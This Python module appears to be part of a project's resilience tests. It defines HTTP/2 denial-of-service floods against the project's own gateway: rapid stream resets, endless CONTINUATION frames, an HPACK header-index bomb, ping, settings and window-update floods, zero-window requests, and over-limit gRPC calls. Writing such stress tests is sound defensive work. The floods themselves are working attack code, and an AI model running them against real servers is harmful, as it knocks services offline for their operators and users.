"""Floods of HTTP/2 frames: each costs its sender a few bytes."""

import itertools
import socket
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from gateway.edge.listeners import STREAMS_PER_CONNECTION
from tests.attacks.frames import Header, RawConnection
from tests.attacks.prey import Attack, Prey

# One address opens a few, as a browser does; the floods that showed the edge's weakness had three.
_CONNECTIONS = 3
_VOLLEY = 200
# A connection that is refused or closed is opened again, but not in a busy loop.
_REOPEN_SECONDS = 0.01
# A peer that does not read for so long pushes back: that connection is given up.
_STUCK_SECONDS = 0.5

# Yields the bytes of a few hundred frames at a time.
Volley = Callable[[RawConnection, Prey], Iterator[bytes]]


def flood(volley: Volley, *, tls: bool = False) -> Attack:
    """Make an attack that sends volley after volley on a few connections, and opens those anew that end."""

    def attack(prey: Prey) -> int:
        with ThreadPoolExecutor(_CONNECTIONS) as threads:
            sent = threads.map(lambda _: _send_volleys(prey, volley, tls=tls), range(_CONNECTIONS))
            return sum(sent)

    return attack


def _send_volleys(prey: Prey, volley: Volley, *, tls: bool) -> int:
    sent = 0
    while prey.has_time():
        with suppress(OSError), prey.connection(tls=tls) as connection:
            connection.socket.settimeout(_STUCK_SECONDS)
            for raw in itertools.takewhile(lambda _: prey.has_time(), volley(connection, prey)):
                connection.socket.sendall(raw)
                sent += 1
                drain(connection.socket)
        time.sleep(_REOPEN_SECONDS)
    return sent


def drain(sock: socket.socket) -> None:
    """Throw away what has come: a sender that never reads would stop itself."""
    patience = sock.gettimeout()
    sock.setblocking(False)
    try:
        while sock.recv(65_536):
            pass
    except OSError:
        return  # nothing more has come
    finally:
        sock.settimeout(patience)


def rest_get(path: str) -> list[Header]:
    """Return the headers of a GET."""
    return [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", path)]


def grpc_post(method: str, token: str = "") -> list[Header]:
    """Return the headers of a native gRPC call."""
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "localhost"),
        (":path", method),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    return [*headers, ("authorization", f"Bearer {token}")] if token else headers


def _together(*frames: Frame) -> bytes:
    return b"".join(frame.serialize() for frame in frames)


def _resets(path: str) -> Volley:
    def volley(connection: RawConnection, _: Prey) -> Iterator[bytes]:
        yield connection.request(rest_get(path)).serialize()
        # From the second time on, every name and value is in the table.
        block = connection.encoder.encode(rest_get(path))
        for first in itertools.count(3, 2 * _VOLLEY):
            yield b"".join(
                HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
                + connection.reset(stream).serialize()
                for stream in range(first, first + 2 * _VOLLEY, 2)
            )

    return volley


def _calls_without_message(*methods: str, ends: bool) -> Volley:
    """Begin calls of these methods in turn, 500 a second in all: more than the contract lets through."""

    def volley(connection: RawConnection, prey: Prey) -> Iterator[bytes]:
        for method, token in itertools.cycle(itertools.product(methods, prey.customers)):
            yield connection.request(grpc_post(method, token), ends=ends).serialize()
            time.sleep(_CONNECTIONS / 500)
            if connection.next_stream > 2 * STREAMS_PER_CONNECTION:
                # Past it, what is refused reaches no service.
                return

    return volley


def _same(*frames: Frame) -> Volley:
    return lambda *_: itertools.repeat(_together(*frames) * _VOLLEY)


def _on_open_stream(frame: Callable[[int], Frame]) -> Volley:
    """Repeat a frame on a stream whose request has begun and never ends."""

    def volley(connection: RawConnection, _: Prey) -> Iterator[bytes]:
        opened = connection.request(grpc_post("/commerce.user.v1.AuthService/GetJwks"), ends=False)
        yield opened.serialize()
        yield from itertools.repeat(frame(opened.stream_id).serialize() * _VOLLEY)

    return volley


def _headers_without_end(connection: RawConnection, _: Prey) -> Iterator[bytes]:
    yield HeadersFrame(1, connection.encoder.encode(rest_get("/v1/products"))).serialize()
    # A literal field without indexing (RFC 7541, 6.2.2): name and value of one letter each.
    yield from itertools.repeat(ContinuationFrame(1, b"\x00\x01x\x01y" * 10).serialize() * _VOLLEY)


def _header_bomb(connection: RawConnection, _: Prey) -> Iterator[bytes]:
    """Name one long header, kept in the table, thousands of times: a byte each."""
    yield connection.request([*rest_get("/v1/products"), ("x-long", "x" * 3_900)]).serialize()
    # What came last has index 62 (RFC 7541, 2.3.3).
    block = connection.encoder.encode(rest_get("/v1/products")) + b"\xbe" * 4_000
    for stream in itertools.count(3, 2):
        yield HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize()


def _priorities(*_: object) -> Iterator[bytes]:
    for first in itertools.cycle(range(1, 100_001, 2 * _VOLLEY)):
        streams = range(first, first + 2 * _VOLLEY, 2)
        yield _together(
            *(PriorityFrame(each, depends_on=0, stream_weight=255, exclusive=True) for each in streams)
        )


def _unread(connection: RawConnection, _: Prey) -> Iterator[bytes]:
    """Ask for large answers with no window to send them in (RFC 9113, 10.5)."""
    yield SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
    while True:
        yield _together(*(connection.request(rest_get("/v1/products?pageSize=100")) for _ in range(5)))
        time.sleep(0.1)


_READS = tuple(f"/commerce.product.v1.ProductService/{name}" for name in ("GetProduct", "SearchProducts"))
_ORDERS = tuple(f"/commerce.order.v1.OrderService/{name}" for name in ("GetOrder", "PlaceOrder"))

FLOODS: dict[str, Attack] = {
    "streams reset at once": flood(_resets("/v1/products?pageSize=1")),
    "streams reset at once, over TLS": flood(_resets("/v1/products?pageSize=1"), tls=True),
    "streams reset at once that were refused": flood(_resets("/nowhere")),
    "reads without a message": flood(_calls_without_message(*_READS, ends=False)),
    "reads that end without a message": flood(_calls_without_message(*_READS, ends=True)),
    "orders without a message": flood(_calls_without_message(*_ORDERS, ends=False)),
    "settings": flood(_same(SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}))),
    "settings acknowledged": flood(_same(SettingsFrame(flags=["ACK"]))),
    "pings": flood(_same(PingFrame(opaque_data=b"12345678"))),
    "pings, over TLS": flood(_same(PingFrame(opaque_data=b"12345678")), tls=True),
    "priorities": flood(_priorities),
    "windows": flood(_same(WindowUpdateFrame(0, window_increment=1))),
    "windows of a stream": flood(
        _on_open_stream(lambda stream: WindowUpdateFrame(stream, window_increment=1))
    ),
    "empty data": flood(_on_open_stream(DataFrame)),
    "resets of what is closed": flood(_on_open_stream(lambda it: RstStreamFrame(it, error_code=8))),
    "headers without an end": flood(_headers_without_end),
    "headers that unfold": flood(_header_bomb),
    "answers never read": flood(_unread),
}
